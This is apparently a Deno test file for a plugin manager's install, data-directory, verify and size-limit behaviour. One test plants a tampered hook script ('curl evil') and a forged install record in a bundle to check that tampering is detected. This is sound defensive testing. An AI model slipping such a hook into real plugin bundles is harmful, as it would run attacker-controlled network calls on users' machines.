import assert from "node:assert/strict";
import { platform } from "../../lib/platform/mod.ts";
import { digestTree, loadPlugins, storeLayout } from "../../lib/plugins/mod.ts";
import { pluginSandbox, sh, writeJson } from "./_helpers.ts";

// Issue 13: item 10 (data dirs collide) and the low items on `plugin verify` and bundle sizes.

/** Two marketplaces whose ids collide under the old `<plugin>-<marketplace>` data dir naming. */
async function collidingMarkets(box: Awaited<ReturnType<typeof pluginSandbox>>) {
  for (const [market, plugin] of [["z", "x-y"], ["y-z", "x"]]) {
    const root = `${box.root}/m-${market}`;
    await writeJson(`${root}/.claude-plugin/marketplace.json`, {
      name: market,
      owner: { name: "t" },
      plugins: [{ name: plugin, source: `./${plugin}` }],
    });
    await platform.fs.mkdir(`${root}/${plugin}/skills`);
    const add = await box.cli("plugin", "marketplace", "add", root);
    assert.equal(add.code, 0, add.stderr);
  }
}

Deno.test("x-y@z and x@y-z get separate data dirs; uninstall --purge of one keeps the other's data (#13 item 10)", async () => {
  const box = await pluginSandbox({ addMarket: false });
  await collidingMarkets(box);
  for (const id of ["x-y@z", "x@y-z"]) assert.equal((await box.cli("plugin", "install", id)).code, 0);
  const data = `${box.env.TRELLIS_HOME}/plugins/data`;
  await platform.fs.writeTextFile(`${data}/x-y@z/state`, "mine");
  await platform.fs.writeTextFile(`${data}/x@y-z/state`, "theirs");
  const purge = await box.cli("plugin", "uninstall", "x@y-z", "--purge");
  assert.equal(purge.code, 0, purge.stderr);
  assert.equal(await platform.fs.readTextFile(`${data}/x-y@z/state`), "mine");
  assert.equal(await platform.fs.stat(`${data}/x@y-z`), null);
});

Deno.test("a data dir of the old naming is moved to the new one when only one plugin can own it", async () => {
  const box = await pluginSandbox();
  assert.equal((await box.cli("plugin", "install", "demo@test")).code, 0);
  const data = `${box.env.TRELLIS_HOME}/plugins/data`;
  // As an earlier version left it: the data under demo-test, nothing under demo@test.
  await platform.fs.remove(`${data}/demo@test`, { recursive: true });
  await platform.fs.mkdir(`${data}/demo-test`);
  await platform.fs.writeTextFile(`${data}/demo-test/state`, "kept");
  const result = await loadPlugins({ loaded: await box.config(), platform });
  assert.deepStrictEqual(result.diagnostics.map((d) => [d.level, d.message]), [
    ["info", `demo@test: moved its data dir ${data}/demo-test to ${data}/demo@test`],
  ]);
  assert.equal(result.plugins[0].dataDir, `${data}/demo@test`);
  assert.equal(await platform.fs.readTextFile(`${data}/demo@test/state`), "kept");
  assert.equal(await platform.fs.stat(`${data}/demo-test`), null);
});

Deno.test("an old data dir two plugins could own is left in place with a warning naming both, and never purged", async () => {
  const box = await pluginSandbox({ addMarket: false });
  await collidingMarkets(box);
  for (const id of ["x-y@z", "x@y-z"]) assert.equal((await box.cli("plugin", "install", id)).code, 0);
  const data = `${box.env.TRELLIS_HOME}/plugins/data`;
  for (const id of ["x-y@z", "x@y-z"]) await platform.fs.remove(`${data}/${id}`, { recursive: true });
  await platform.fs.mkdir(`${data}/x-y-z`);
  await platform.fs.writeTextFile(`${data}/x-y-z/state`, "whose?");
  const result = await loadPlugins({ loaded: await box.config(), platform });
  assert.deepStrictEqual(result.diagnostics.map((d) => d.message), [
    `x-y@z: the data dir ${data}/x-y-z may belong to x-y@z or x@y-z; it is left in place — move it to ${data}/x-y@z if it is this plugin's`,
    `x@y-z: the data dir ${data}/x-y-z may belong to x-y@z or x@y-z; it is left in place — move it to ${data}/x@y-z if it is this plugin's`,
  ]);
  const purge = await box.cli("plugin", "uninstall", "x@y-z", "--purge");
  assert.equal(purge.code, 0, purge.stderr);
  assert.equal(await platform.fs.readTextFile(`${data}/x-y-z/state`), "whose?");
});

Deno.test("plugin verify checks against the record under $TRELLIS_HOME, not one planted in the bundle (#13)", async () => {
  const box = await pluginSandbox();
  assert.equal((await box.cli("plugin", "install", "demo@test")).code, 0);
  const layout = storeLayout(box.env.TRELLIS_HOME);
  const root = `${layout.cacheDir}/test/demo/1.0.0`;
  assert.equal(await platform.fs.lstat(`${root}/.trellis-install.json`), null, "no record inside the bundle");
  await platform.fs.writeTextFile(`${root}/hooks/check.sh`, "#!/bin/sh\ncurl evil\n");
  // The attacker also rewrites a record inside the bundle to match the new content.
  const forged = (await digestTree(platform.fs, root)).digest;
  await writeJson(`${root}/.trellis-install.json`, {
    schema: 1,
    id: "demo@test",
    version: "1.0.0",
    digest: forged,
  });
  const run = await box.cli("plugin", "verify", "demo@test");
  assert.equal(run.code, 1);
  assert.match(
    run.stdout,
    /^demo@test: modified \(expected sha256:[0-9a-f]{64}, found sha256:[0-9a-f]{64}\)\n$/,
  );
  assert.doesNotMatch(run.stdout, new RegExp(forged));
});

Deno.test("plugin verify reports no_record for a bundle the store has no record of", async () => {
  const box = await pluginSandbox();
  assert.equal((await box.cli("plugin", "install", "demo@test")).code, 0);
  await platform.fs.remove(`${box.env.TRELLIS_HOME}/plugins/records/demo@test.json`);
  const run = await box.cli("plugin", "verify", "demo@test");
  assert.deepStrictEqual([run.code, run.stdout], [1, "demo@test: no_record\n"]);
  // `update` re-anchors it from the source.
  assert.equal((await box.cli("plugin", "update", "demo@test")).code, 0);
  assert.equal((await box.cli("plugin", "verify", "demo@test")).stdout, "demo@test: ok\n");
});

Deno.test("a local plugin over the size limit is refused naming the file and the limit; the store is untouched", async () => {
  const box = await pluginSandbox();
  // A sparse 3 GiB file: no disk used, but 3 GiB for anything that reads it whole.
  await sh(["truncate", "-s", "3G", `${box.market}/plugins/demo/skills/hello/blob.bin`]);
  const run = await box.cli("plugin", "install", "demo@test");
  assert.equal(run.code, 2);
  assert.equal(
    run.stderr,
    'error: Cannot install "demo@test": ./skills/hello/blob.bin (3 GiB) takes the bundle over the 250 MiB size limit\n',
  );
  assert.equal(await platform.fs.stat(`${box.env.TRELLIS_HOME}/plugins/cache/test/demo`), null);
  assert.deepStrictEqual(await platform.fs.readDir(`${box.env.TRELLIS_HOME}/plugins/.staging`), []);
});

Deno.test("installing a bundle with a 200 MiB file keeps peak memory far below the file's size", async () => {
  const box = await pluginSandbox();
  await sh(["truncate", "-s", "200M", `${box.market}/plugins/demo/big.bin`]);
  // A fresh process, so its peak RSS (VmHWM) is this install's alone.
  const script = `
    import { loadConfig } from "${new URL("../../lib/config/mod.ts", import.meta.url)}";
    import { platform } from "${new URL("../../lib/platform/mod.ts", import.meta.url)}";
    import { installById } from "${new URL("../../lib/plugins/mod.ts", import.meta.url)}";
    const env = ${JSON.stringify(box.env)};
    const loaded = await loadConfig(platform.fs, { cwd: ${JSON.stringify(box.root)}, env: (n) => env[n] });
    const result = await installById({ platform, loaded, id: "demo@test" });
    const hwm = Deno.readTextFileSync("/proc/self/status").match(/VmHWM:\\s+(\\d+) kB/)[1];
    console.log(JSON.stringify({ files: result.digest.length, hwmMiB: Number(hwm) / 1024 }));
  `;
  const out = await new Deno.Command(Deno.execPath(), {
    args: ["eval", script],
    stdout: "piped",
    stderr: "piped",
  })
    .output();
  assert.equal(out.code, 0, new TextDecoder().decode(out.stderr));
  const { hwmMiB } = JSON.parse(new TextDecoder().decode(out.stdout));
  assert.ok(hwmMiB < 160, `peak RSS ${hwmMiB} MiB for a 200 MiB file`);
  const copy = await platform.fs.stat(`${box.env.TRELLIS_HOME}/plugins/cache/test/demo/1.0.0/big.bin`);
  assert.equal(copy?.size, 200 * 1024 * 1024);
});
